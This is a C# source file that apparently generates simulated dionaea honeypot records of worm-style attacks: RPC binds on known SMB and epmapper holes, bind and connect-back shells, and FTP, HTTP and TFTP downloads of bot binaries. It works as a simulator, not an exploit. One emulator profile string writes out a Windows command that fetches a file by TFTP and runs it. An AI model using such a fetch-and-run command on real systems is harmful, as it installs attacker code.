namespace Dionaea.Analysis;

/// <summary>
/// Exploits whose shellcode the emulator, which knows IPv4 only, understood. A whole attack with a bind shell has the tree that
/// dionaea's documentation of log_sqlite shows: smbd accept, remoteshell listen, remoteshell accept, FTPCtrl
/// connect, FTPData listen, FTPData accept.
/// </summary>
internal static class ShellcodeAttacks
{
    private const int Tree = 6;

    private static readonly (string Protocol, int Port, string Uuid, int Operation)[] Holes =
    [
        ("smbd", 445, SmbAttacks.Srvsvc, 31),
        ("smbd", 445, "3919286a-b10c-11d0-9ba8-00c04fd92ef5", 9),
        ("smbd", 445, SmbAttacks.Srvsvc, 32),
        ("epmapper", 135, "000001a0-0000-0000-c000-000000000046", 4),
        ("epmapper", 135, "4d9f4ab8-7d1c-11cf-861e-0020af6e7c57", 0),
        ("smbd", 445, "8d9f4e40-a03d-11ce-8f69-08003e30051b", 54),
    ];

    /// <summary>A shell on a port of the sensor, used to order a file by FTP.</summary>
    public static void BindShell(AttackScript script)
    {
        if (script.Left < Tree || script.Attacker.IsV6)
        {
            SmbAttacks.Scan(script);
            return;
        }

        var (attack, hole) = Begin(script);
        var port = script.Random.Between(1025, 9999);
        script.Report(Origin.ShellListen, attack, port);
        var listener = script.Listen("remoteshell", port, attack);
        End(script, attack, hole, ShellcodeProfile.BindShell(port));
        script.Wait(700, 4000);
        var shell = script.Accept("remoteshell", port, parent: listener);
        Order(script, shell);
        script.Free(listener);
        script.Free(attack);
    }

    /// <summary>A shell that connects back to the attacker, used to order a file by FTP.</summary>
    public static void ConnectBack(AttackScript script)
    {
        if (script.Left < Tree || script.Attacker.IsV6)
        {
            SmbAttacks.Worm(script);
            return;
        }

        var (attack, hole) = Begin(script);
        var port = script.Random.Between(1025, 9999);
        script.Report(Origin.ShellConnect, attack, script.Attacker.Address, port);
        var shell = script.Connect("remoteshell", script.Attacker.Address, port, attack);
        End(script, attack, hole, ShellcodeProfile.ConnectBack(script.Attacker.Address, port));
        script.Wait(300, 2000);
        Order(script, shell);
        script.Free(attack);
    }

    /// <summary>Shellcode that fetches a file by itself, by HTTP or by running a TFTP client.</summary>
    public static void Fetch(AttackScript script)
    {
        if (script.Left < 3 || script.Attacker.IsV6)
        {
            ScanAttacks.Knock(script);
            return;
        }

        var (attack, hole) = Begin(script);
        var file = script.Random.PickSkewed(Wordlists.FileNames);
        if (script.Random.Chance(60))
        {
            var url = $"http://{Wordlists.DropHosts[script.Attacker.Tool % Wordlists.DropHosts.Count]}/{file}";
            script.Report(Origin.Offer, attack, url);
            End(script, attack, hole, ShellcodeProfile.Download(url, script.Random.Between(10, 99) + ".scr"));
            script.Wait(800, 9000);
            if (script.Random.Chance(80))
                script.Capture(attack, url, script.Binaries.Choose(BinaryGroup.Bot, script.Day));
        }
        else
        {
            Tftp(script, attack, hole, file);
        }

        script.Free(attack);
    }

    private static (SampleConnection Attack, int Hole) Begin(AttackScript script)
    {
        var hole = script.Random.Skewed(Holes.Length);
        var attack = script.Accept(Holes[hole].Protocol, Holes[hole].Port);
        script.Wait(100, 900);
        script.Report(Origin.DcerpcBind, attack, Holes[hole].Uuid, SmbAttacks.Ndr);
        script.Wait(50, 400);
        return (attack, hole);
    }

    // The emulator's own reports come first, then the profile, then the call that carried the shellcode.
    private static void End(AttackScript script, SampleConnection attack, int hole, string profile)
    {
        script.Report(Origin.EmuProfile, attack, profile);
        script.Report(Origin.DcerpcRequest, attack, Holes[hole].Uuid, Holes[hole].Operation);
    }

    private static void Order(AttackScript script, SampleConnection shell)
    {
        var named = script.Random.Chance(20);
        var host = named ? "ftp.example.com" : script.Attacker.Address;
        var port = named ? 21 : script.Random.Between(2000, 20_000);
        var url = $"ftp://1:1@{host}:{port}/{script.Random.PickSkewed(Wordlists.FileNames)}";
        var control = script.Connect("FTPCtrl", host, port, shell);
        script.Report(Origin.Offer, shell, url);
        script.Wait(200, 1500);
        var listener = script.Listen("FTPData", script.Random.Between(49_152, 65_535), control);
        script.Wait(100, 1200);
        var data = script.Accept("FTPData", listener.LocalPort, parent: listener);
        script.Wait(500, 8000);
        script.Free(data);
        script.Free(listener);
        if (script.Random.Chance(85))
            script.Capture(shell, url, script.Binaries.Choose(BinaryGroup.Bot, script.Day));
        script.Free(control);
        script.Free(shell);
    }

    private static void Tftp(AttackScript script, SampleConnection attack, int hole, string file)
    {
        var host = script.Attacker.Address;
        var url = $"tftp://{host}/{file}";
        var client = script.Connect("TftpClient", host, 69, attack, "udp");
        script.Report(Origin.Offer, attack, url);
        End(script, attack, hole, ShellcodeProfile.Execute($"cmd /c tftp -i {host} GET {file} && {file}"));
        if (script.Random.Chance(75))
        {
            // The client connects anew when the answer comes from another port: a second row for one socket.
            script.Wait(100, 900);
            script.Open(Origin.UdpConnect, client, attack);
            script.Wait(500, 9000);
            script.Capture(attack, url, script.Binaries.Choose(BinaryGroup.Bot, script.Day));
        }

        script.Free(client);
    }
}
